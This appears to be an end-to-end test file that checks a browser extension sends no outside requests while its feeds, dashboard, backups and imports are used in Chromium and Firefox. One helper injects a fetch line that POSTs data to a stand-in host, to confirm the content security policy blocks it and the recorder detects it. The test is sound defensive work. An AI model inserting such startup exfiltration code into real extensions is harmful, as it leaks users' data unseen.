import { cpSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import type { Page } from 'playwright-core'
import { afterAll, beforeAll, beforeEach, describe, expect, it } from 'vitest'
import { type Ask, backgroundOf, backgroundOfFirefox } from '../browser/background.ts'
import { type Chromium, launchChromium } from '../browser/chromium.ts'
import { type Firefox, launchFirefox } from '../browser/firefox.ts'
import { packageFolder } from '../browser/packages.ts'
import { type Recorder, startRecorder } from '../browser/recorder.ts'
import { serveFeedsOnly, serveFeedsTo } from '../browser/serve.ts'
import { FeedTab, say } from '../e2e/panels.ts'
import { seed } from '../sample/seed.ts'

const HUBSPOT = join(import.meta.dirname, '../unit/import/files/hubspot.csv')
const FEEDS = [
  ['https://x.com/home', 'maralind'],
  ['https://www.facebook.com/', 'mara.lindqvist'],
  ['https://www.linkedin.com/feed/', 'mara-lindqvist'],
] as const
const SECTIONS = [
  'inbox',
  'people',
  'listening',
  'vip',
  'relationships',
  'replies',
  'data',
  'settings',
]

let recorder: Recorder
beforeAll(async () => {
  recorder = await startRecorder()
})
afterAll(() => recorder?.close())
beforeEach(() => void recorder.requests.splice(0))

/** A browser behind the recorder; `asked` is what pages and workers of the extension loaded. */
async function start(extension?: string) {
  const browser = await launchChromium({
    proxy: recorder.proxy,
    ...(extension && { extension }),
  })
  const asked: string[] = []
  browser.context.on('request', (request) => {
    const from = request.serviceWorker()?.url() ?? request.frame().url()
    if (from.startsWith('chrome-extension:')) asked.push(request.url())
  })
  const served = await serveFeedsOnly(browser.context)
  return { browser, asked, served }
}

/** Where Chromium looks for updates of its own, and asks whether somebody is signed in. */
const OF_CHROMIUM = /\b(google|googleapis|gvt1)\.com(:443|\/|$)/
/** Chromium connects ahead to where a tab goes, even where a test answers in the site's place. */
const AHEAD = FEEDS.map(([url]) => `${new URL(url).host}:443`)

/** What reached the recorder and is not the browser's own. */
const left = () => recorder.requests.filter((one) => !OF_CHROMIUM.test(one) && !AHEAD.includes(one))

/** What Chromium gives to the extension's worker. */
declare const chrome: typeof import('webextension-polyfill')

/** The package with what it would ask for from the start: nobody is there to answer. */
function allGiven(): string {
  const folder = mkdtempSync(join(tmpdir(), 'ardent-given-'))
  cpSync(packageFolder('chromium'), folder, { recursive: true })
  const file = join(folder, 'manifest.json')
  const { optional_permissions: asked, ...manifest } = JSON.parse(readFileSync(file, 'utf8'))
  manifest.permissions.push(...asked)
  writeFileSync(file, JSON.stringify(manifest))
  return folder
}

/** Has the browser notify, and somebody be due. */
async function beNotified(ask: Ask): Promise<void> {
  const { reminders } = await ask('settings', {})
  const always = { notify: true, quietFrom: '08:00', quietTo: '08:00', daysOff: [] }
  await ask('changeSettings', { reminders: { ...reminders, ...always } })
  const author = { handle: 'due', name: 'Due', url: 'https://x.com/due', kind: 'person' } as const
  const { person } = await ask('upsertPerson', { network: 'x', author })
  await ask('addFollowUp', { personId: person.id, why: 'Call', due: Date.now() - 1000 })
}

/** Every surface is opened, and what it is for is done. */
async function useEverything(browser: Chromium): Promise<void> {
  await seed(browser)
  const ask = await backgroundOf(browser)
  await beNotified(ask)
  const worker = await browser.worker()
  const told = () => worker.evaluate(async () => (await chrome.storage.local.get('told')).told)
  // What somebody was told of is noted with the notification.
  await expect.poll(told).not.toEqual(undefined)
  await ask('changeSettings', { discoverAdvocates: true, draftLink: 'https://acme.example/help' })
  for (const [url, handle] of FEEDS) {
    const tab = await FeedTab.open(browser.context, url)
    const post = await tab.postOf(handle)
    await expect.poll(() => tab.nameOn(post)).toContain(': ')
    const panel = await tab.openPanel(post)
    await panel.getByText(say('person_relationship'), { exact: true }).waitFor()
    await tab.page.evaluate(() => window.feed.scrollThrough(10))
    await tab.close()
  }
  for (const path of ['popup.html', 'sidepanel.html', 'welcome.html', 'panel.html']) {
    const page = await browser.openExtensionPage(path)
    await page.waitForSelector('h1')
    for (const one of await page.getByRole('tab').all()) await one.click()
    await page.close()
  }
  const dashboard = await browser.openExtensionPage('dashboard.html')
  for (const section of SECTIONS) {
    await goTo(dashboard, section)
    await dashboard.waitForLoadState('networkidle')
  }
  await goTo(dashboard, 'data')
  const download = dashboard.waitForEvent('download')
  await dashboard.getByRole('button', { name: say('backup_make') }).click()
  const backup = await (await download).path()
  await dashboard.getByText('It was read back').waitFor()
  await dashboard.locator('input[type=file]').setInputFiles(backup)
  await dashboard.getByText(say('restore_replace')).click()
  await dashboard.getByRole('button', { name: say('restore_replace_start') }).click()
  await dashboard.getByRole('button', { name: say('restore_replace_yes') }).click()
  await dashboard.getByText('Restored: ').waitFor()
  await goTo(dashboard, 'data/import')
  await dashboard.setInputFiles('input[type=file]', HUBSPOT)
  await dashboard.getByRole('button', { name: say('import_to_dry_run') }).click()
  await dashboard.getByRole('button', { name: /^Import \d+ rows/ }).click()
  await dashboard.getByText(/people were added/).waitFor()
}

const goTo = (page: Page, route: string) =>
  page.evaluate((hash) => {
    location.hash = hash
  }, `#/${route}`)

describe('no request leaves', () => {
  it('while every surface is used, on every network, and the browser notifies', async () => {
    const extension = allGiven()
    const { browser, asked, served } = await start(extension)
    try {
      await useEverything(browser)
      expect(left()).toEqual([])
      // Of the sites nothing was asked for but the pages that were opened.
      const pages = new Set([
        ...FEEDS.map(([url]) => url),
        ...FEEDS.flatMap(([url]) => filesOf(url)),
      ])
      expect(served.filter((url) => !pages.has(url))).toEqual([])
      expect(asked.filter((url) => !/^(chrome-extension|blob|data):/.test(url))).toEqual([])
      expect(asked.length).toBeGreaterThan(50)
      console.info(`files of its own: ${asked.length}, feeds: ${served.length}, others: 0`)
    } finally {
      await browser.close()
      rmSync(extension, { recursive: true, force: true })
    }
  })

  it('even of code that tries to send one, as long as the policy of our pages holds', async () => {
    expect(await tryToSend({ policy: true })).toBe('refused')
    expect(left()).toEqual([])
  })

  it('and one that did would be seen', async () => {
    await tryToSend({ policy: false })
    await expect.poll(left).toContain('tell.example:443')
  })
})

const filesOf = (url: string) =>
  ['static/feed.js', 'static/feed.css', 'favicon.ico'].map((file) => new URL(`/${file}`, url).href)

/** Where Firefox looks for updates of its own, and whether it is online. */
const OF_FIREFOX = /\b(mozilla|firefox|mozgcp)\.(com|net|org)(:\d+|\/|$)/

/** What Firefox gives to pages of the extension. */
declare const browser: typeof import('webextension-polyfill')

/** Has the browser notify of what is due, and backups saved among the downloads, as the day's are. */
async function useWhatIsAskedFor(firefox: Firefox): Promise<void> {
  const page = await firefox.openExtensionPage('dashboard.html#/settings')
  const press = async (selector: string) => (await page.waitForSelector(selector))?.click()
  await press(`::-p-aria([name="${say('reminders_notify')}"][role="switch"])`)
  const ask = backgroundOfFirefox(page)
  await expect.poll(async () => (await ask('settings', {})).reminders.notify).toBe(true)
  await beNotified(ask)
  // What somebody was told of is noted with the notification.
  const told = () => page.evaluate(async () => (await browser.storage.local.get('told')).told)
  await expect.poll(told).toHaveLength(1)
  await page.evaluate(() => {
    location.hash = '#/data'
  })
  await press(`button::-p-text(${say('folder_downloads_choose')})`)
  await page.waitForSelector('::-p-text(saved completely)')
  await page.close()
}

it('none leaves in Firefox either, while a feed and every page is used, and all that is asked for is on', async () => {
  const downloads = mkdtempSync(join(tmpdir(), 'ardent-downloads-'))
  const firefox = await launchFirefox({ proxyPort: recorder.port, downloads })
  try {
    await useWhatIsAskedFor(firefox)
    const refused: string[] = []
    for (const [url] of FEEDS) {
      const page = await firefox.browser.newPage()
      const { urls } = await serveFeedsTo(page)
      await page.goto(url)
      await page.waitForFunction(() => window.feed?.posts().length > 0)
      await page.evaluate(() => window.feed.scrollThrough(5))
      refused.push(...urls)
      await page.close()
    }
    for (const path of ['popup', 'sidepanel', 'welcome', 'panel', 'dashboard']) {
      const page = await firefox.openExtensionPage(`${path}.html`)
      await page.waitForSelector('h1')
      for (const section of path === 'dashboard' ? SECTIONS : []) {
        await page.evaluate((hash) => {
          location.hash = hash
        }, `#/${section}`)
        await page.waitForSelector('main h1, main h2')
      }
      await page.close()
    }
    expect(refused).toEqual([])
    const own = recorder.requests.filter((one) => !OF_FIREFOX.test(one) && !AHEAD.includes(one))
    expect(own).toEqual([])
  } finally {
    await firefox.close()
    rmSync(downloads, { recursive: true, force: true })
  }
})

/** A package whose background sends something out as it starts. */
async function tryToSend({ policy }: { policy: boolean }): Promise<string> {
  const extension = mkdtempSync(join(tmpdir(), 'ardent-telling-'))
  cpSync(packageFolder('chromium'), extension, { recursive: true })
  const background = join(extension, 'background.js')
  const tell = `globalThis.told = fetch('https://tell.example/all', { method: 'POST', body: 'all' })
    .then(() => 'sent', () => 'refused');`
  writeFileSync(background, tell + readFileSync(background, 'utf8'))
  if (!policy) {
    const manifest = join(extension, 'manifest.json')
    const { content_security_policy: _, ...rest } = JSON.parse(readFileSync(manifest, 'utf8'))
    writeFileSync(manifest, JSON.stringify(rest))
  }
  const { browser } = await start(extension)
  try {
    const worker = await browser.worker()
    return await worker.evaluate(() => (globalThis as unknown as { told: Promise<string> }).told)
  } finally {
    await browser.close()
    rmSync(extension, { recursive: true, force: true })
  }
}
